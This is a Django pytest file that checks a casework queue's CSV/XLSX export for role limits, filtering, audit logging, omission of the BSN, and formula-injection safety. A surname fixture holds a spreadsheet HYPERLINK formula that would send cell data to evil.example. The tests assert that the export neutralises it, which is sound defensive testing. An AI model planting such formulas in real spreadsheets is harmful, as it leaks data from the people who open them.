"""The work queue as CSV and XLSX: VT roles only, the page's filter, formula-safe, logged."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ketenzicht.audit.models import AccessAction, AccessLogEntry
from ketenzicht.intake.tests.factories import victim_adult

pytestmark = pytest.mark.django_db

URL = reverse("casework:queue_export")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.fixture
def evil_case(make_case):
    return make_case(people=[victim_adult(first_names="Anna", surname=EVIL, bsn="111222333")])


def test_the_csv_export_neutralises_a_malicious_name_and_leaves_out_the_bsn(
    client, team_lead, evil_case
):
    client.force_login(team_lead)
    response = client.get(URL, {"view": "team", "format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'attachment; filename="werkvoorraad-team-' in response["Content-Disposition"]
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][0] == "Zaak"  # Dutch headers
    (row,) = rows[1:]
    assert row[0] == evil_case.reference
    assert row[-1].startswith(f"Anna {EVIL}")  # starts with "Anna": no formula, left as is
    assert not any(cell.startswith("=") for cell in row)
    assert "111222333" not in text


def test_a_malicious_first_cell_gets_the_quote(client, team_lead, make_case):
    make_case(people=[victim_adult(first_names="", surname=EVIL)])
    client.force_login(team_lead)
    text = client.get(URL, {"view": "team"}).content.decode("utf-8-sig")
    (row,) = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
    assert row[-1].startswith("'=HYPERLINK")


def test_the_xlsx_export_keeps_the_name_as_text_never_a_formula(client, team_lead, make_case):
    make_case(people=[victim_adult(first_names="", surname=EVIL)])
    client.force_login(team_lead)
    response = client.get(URL, {"view": "team", "format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    people = sheet.cell(row=2, column=sheet.max_column)
    assert people.data_type == "s" and people.quotePrefix
    assert people.value.startswith("=HYPERLINK")
    assert sheet.cell(row=1, column=1).value == "Zaak"


def test_the_export_follows_the_page_filter(client, vt_worker, make_case):
    make_case()  # not assigned to the worker: not in "mine"
    client.force_login(vt_worker)
    text = client.get(URL, {"view": "mine"}).content.decode("utf-8-sig")
    assert len(text.strip().splitlines()) == 1  # the header only


def test_the_export_is_logged_with_its_cases_people_and_row_count(client, team_lead, evil_case):
    client.force_login(team_lead)
    client.get(URL, {"view": "team", "format": "xlsx"})
    entry = AccessLogEntry.objects.filter(action=AccessAction.EXPORT).get()
    assert entry.user == team_lead
    assert entry.case_ids == [evil_case.pk]
    assert entry.person_ids == [evil_case.report.involved.get().person_id]
    assert entry.detail.endswith(".xlsx (1 rows)")


def test_an_unknown_format_is_refused_and_not_logged(client, team_lead, evil_case):
    client.force_login(team_lead)
    assert client.get(URL, {"format": "pdf"}).status_code == 400
    assert not AccessLogEntry.objects.filter(action=AccessAction.EXPORT).exists()


def test_a_chain_professional_cannot_export(client, pro_a, evil_case):
    client.force_login(pro_a)
    assert client.get(URL, {"view": "team"}).status_code == 403
